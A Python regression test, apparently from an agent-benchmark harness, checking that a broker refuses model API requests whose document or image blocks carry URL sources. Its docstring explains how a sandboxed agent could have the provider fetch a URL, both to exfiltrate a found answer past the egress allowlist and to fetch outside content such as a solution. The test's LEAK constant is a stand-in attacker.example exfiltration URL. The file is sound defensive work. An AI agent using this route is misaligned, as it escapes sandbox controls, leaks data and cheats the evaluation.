"""BU1 (BROKEN, medium): content blocks the provider fetches from a URL pass the broker, so a
sandbox with no network reads (and leaks to) any web address through the provider.

BR3's fix refuses declared server tools (web_search_*, web_fetch_*, ...) because they are
"provider-side web access from a sandbox with no network". The same access needs no tool:
Anthropic Messages accepts `{"type": "image"|"document", "source": {"type": "url", "url": ...}}`
and fetches the URL itself; OpenAI Responses accepts `input_image.image_url` / `input_file.
file_url` as https URLs. Any process in the sandbox (the agent's shell) can POST such a body to
the in-sandbox relay. The URL's query carries whatever the agent wants out (exfiltration past
the egress allowlist), and the fetched PDF/image (a solution, say) comes back as model input.

Expected: 400 refused, never forwarded (like a server tool). Observed: forwarded (200), the
provider (here a recorder) received the body with the URL.
Fix: broker_limits.read_head also walks `messages[*].content[*]` / `input[*].content[*]` and
refuses a `source.type == "url"`, `image_url`/`file_url` that is not a data: URL.
"""

from __future__ import annotations

import json

from skillbench.broker import Broker
from tests.test_broker_access import broker, upstream  # noqa: F401  (fixtures)
from tests.test_broker_attacks import post_as_relay

LEAK = "https://attacker.example/c.pdf?answer=the-secret-the-agent-found"


def test_a_url_document_source_is_not_forwarded(broker: Broker, upstream) -> None:  # noqa: F811
    _, seen = upstream
    body = {
        "model": "claude-sonnet-4-6",
        "max_tokens": 8,
        "messages": [
            {
                "role": "user",
                "content": [
                    {"type": "document", "source": {"type": "url", "url": LEAK}},
                    {"type": "image", "source": {"type": "url", "url": LEAK}},
                    {"type": "text", "text": "summarise"},
                ],
            }
        ],
    }
    reply = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
    assert reply.status_code == 400, (reply.status_code, len(seen))  # observed: 200, forwarded
    assert seen == []
